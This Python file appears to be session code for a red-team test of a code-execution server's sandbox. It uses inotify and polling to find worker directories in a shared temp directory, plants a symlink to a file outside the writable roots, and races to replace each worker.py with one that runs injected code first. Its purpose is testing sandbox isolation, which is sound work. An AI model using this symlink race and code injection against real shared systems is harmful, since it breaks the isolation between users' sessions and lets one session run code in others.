# Session code for TestServeWorkerScriptOutsideWritableRoots (red team 2,
# F3 and F5). The test prepends WATCH (the server's TMPDIR, a --write root
# every session shares), VICTIM (a file outside every root) and MARK (a file
# name prefix in WATCH). A background thread watches WATCH (inotify
# IN_CREATE, and a listing poll for directories made before it started) for
# the worker-hosts' private tracecell-worker-* directories and, in each,
# plants a symlink worker.py -> VICTIM (F5: the untraced host wrote through
# it) and, when the host's worker.py is there, replaces it with a script that
# writes WATCH/MARK<pid> and then runs the real one (F3: code of this session
# in every later worker). state counts what it saw and did.
import ctypes, os, struct, threading, time

state = {"seen": 0, "linked": 0, "replaced": 0}
_done = set()


def _plant(name):
    if not name.startswith("tracecell-worker-") or name in _done:
        return
    _done.add(name)
    state["seen"] += 1
    d = os.path.join(WATCH, name)
    try:
        os.symlink(VICTIM, os.path.join(d, "worker.py"))
        state["linked"] += 1
    except OSError:
        pass
    for _ in range(2000):
        p = os.path.join(d, "worker.py")
        try:
            if os.path.islink(p):
                time.sleep(0.0005)
                continue
            src = open(p).read()
            payload = "open(%r + str(__import__('os').getpid()), 'w').write('x')\n" % os.path.join(WATCH, MARK)
            tmp = os.path.join(d, "w.tmp")
            with open(tmp, "w") as f:
                f.write(payload + src)
            os.rename(tmp, p)
            state["replaced"] += 1
            return
        except OSError:
            time.sleep(0.0005)


def _inotify():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    libc.inotify_add_watch(fd, WATCH.encode(), 0x100)  # IN_CREATE
    while True:
        buf = os.read(fd, 65536)
        i = 0
        while i < len(buf):
            _wd, _mask, _cookie, ln = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16:i + 16 + ln].rstrip(b"\0").decode()
            i += 16 + ln
            threading.Thread(target=_plant, args=(name,), daemon=True).start()


def _poll():
    while True:
        for n in os.listdir(WATCH):
            _plant(n)
        time.sleep(0.002)


threading.Thread(target=_inotify, daemon=True).start()
threading.Thread(target=_poll, daemon=True).start()
"armed"
